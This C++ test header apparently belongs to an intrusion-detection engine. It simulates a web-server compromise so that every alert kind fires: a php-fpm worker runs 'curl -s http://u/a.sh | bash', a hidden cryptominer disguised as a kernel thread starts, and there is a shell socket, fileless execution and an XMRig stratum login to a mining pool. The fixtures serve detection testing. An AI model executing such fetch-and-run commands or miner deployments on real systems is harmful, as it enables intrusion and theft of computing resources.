// SPDX-License-Identifier: Apache-2.0
// Alerts of every kind, as the engine makes them from records.
#pragma once

#include <algorithm>

#include <string>
#include <vector>

#include "engine/engine.h"
#include "support/records.h"
#include "wire/recording.h"

namespace davylamp::test {

inline RecordingInfo host()
{
    RecordingInfo out;
    out.version = "0.1.0";
    out.hostname = "web-03";
    out.kernel = "6.1.0-18-amd64";
    out.boot_id = "b1a7c0de-0000-4000-8000-000000000001";
    out.machine_id = "4f6c1b0a9d2e";
    out.os_name = "Debian GNU/Linux 12 (bookworm)";
    // Boot at 2026-11-24 11:00:00 UTC.
    out.realtime_offset_ns = 1'795'518'000 * static_cast<std::int64_t>(kSecond);
    return out;
}

constexpr std::uint64_t kAt = 3'667'118'000'000; // 12:01:07.118

inline const davy_flow kRemote = flow("198.51.100.9", 80);
inline const davy_flow kPool = flow("192.0.2.77", 3333);
inline const davy_process kFpm = with_uid(process(640, 1, "php-fpm8.2"), 33);
inline const davy_process kSh = with_uid(process(811, 640, "sh"), 33);
inline const davy_process kCurl = with_uid(process(812, 811, "curl"), 33);
inline const davy_process kBash =
    with_family(with_uid(process(813, 811, "bash"), 33), DAVY_FAMILY_SHELL);
inline const davy_process kMiner = with_uid(process(900, 813, "kdevtmpfsi"), 33);

constexpr std::string_view kLogin =
    R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edf","pass":"x",)"
    R"("agent":"XMRig/6.21.0"}})"
    "\n";

class Teller {
public:
    explicit Teller(Policy policy = {}) : engine_(policy)
    {
        *this << execs(1, kFpm, "/usr/sbin/php-fpm8.2", {"php-fpm: pool www"})
              << forks(2, 640, 811, "php-fpm8.2")
              << execs(3, kSh, "/bin/sh", {"sh", "-c", "curl -s http://u/a.sh | bash"})
              << forks(4, 811, 812, "sh") << forks(5, 811, 813, "sh")
              << execs(6, kBash, "/bin/bash", {"bash"}, 0)
              << execs(7, kCurl, "/usr/bin/curl", {"curl", "-s", "http://u/a.sh"})
              << forks(8, 813, 900, "bash")
              << execs(9, kMiner, "/tmp/.X11-unix/kdevtmpfsi", {"[kworker/0:1]"});
    }
    template <class T> Teller& operator<<(const T& event)
    {
        Record record(event);
        engine_.feed(record.event(), [&](const Alert& alert) { alerts.push_back(alert); });
        return *this;
    }
    std::vector<Alert> alerts;

private:
    Engine engine_;
};

// One of most event codes, in this mode; every_rule_test.cpp has the others.
inline std::vector<Alert> every_kind(std::uint8_t mode)
{
    Policy policy;
    policy.image = Mode::monitor;
    Prefix listed;
    std::copy_n(kPool.remote, listed.address.size(), listed.address.begin());
    listed.note = "supportxmr";
    policy.pool_addresses.push_back(listed);
    policy.pool_names.push_back({"supportxmr.com", "a pool"});
    Teller teller(policy);
    davy_image anonymous = memfd(77, "x");
    auto socket = chain(kAt + 1, mode, kBash, kBash, flow("2001:db8::1", 4444));
    socket.source = {};
    socket.facts.source = DAVY_SOURCE_SOCKET;
    socket.facts.hops = 0;
    judge(socket);
    davy_process rm = with_uid(process(950, 813, "rm"), 33);
    davy_process found = with_image(process(960, 1, "old"),
                                    gone(process(960, 1, "old").image, DAVY_IMAGE_BEFORE_US));
    teller << chain(kAt, mode, kCurl, kBash, kRemote) << socket
           << fileless(kAt + 2, mode, with_image(process(970, 813, "3"), anonymous), anonymous,
                       "/dev/fd/3")
           << removed(kAt + 3, mode, rm, kMiner.id, gone(kMiner.image), "kdevtmpfsi")
           << talking(kAt + 4, mode, with_image(kMiner, gone(kMiner.image)), kPool)
           << swept(kAt + 5, found) << stratum(kAt + 6, mode, kMiner, kPool, kLogin)
           << pool(kAt + 7, mode, kMiner, kPool, DAVY_POOL_ADDRESS, 0)
           << pool(kAt + 8, mode, kMiner, kPool, DAVY_POOL_PORT, 0);
    auto answer = pool(kAt + 9, mode, kMiner, kPool, DAVY_POOL_ANSWER, 0);
    answer.ttl_s = 60;
    auto question = pool(kAt + 10, mode, kMiner, flow("127.0.0.53", 53), DAVY_POOL_QUESTION, 0);
    auto proxied =
        pool(kAt + 11, mode, kMiner, flow("127.0.0.1", 9050), DAVY_POOL_PROXY_ADDRESS, 0);
    std::copy_n(kPool.remote, sizeof proxied.proxied, proxied.proxied);
    auto proven = pool(kAt + 12, mode, kMiner, kPool, DAVY_POOL_PROVEN, DAVY_NO_ROW);
    proven.tries = 3;
    teller << with_name(answer, "pool.supportxmr.com") << with_name(question, "supportxmr.com")
           << proxied << proven;
    return teller.alerts;
}

} // namespace davylamp::test
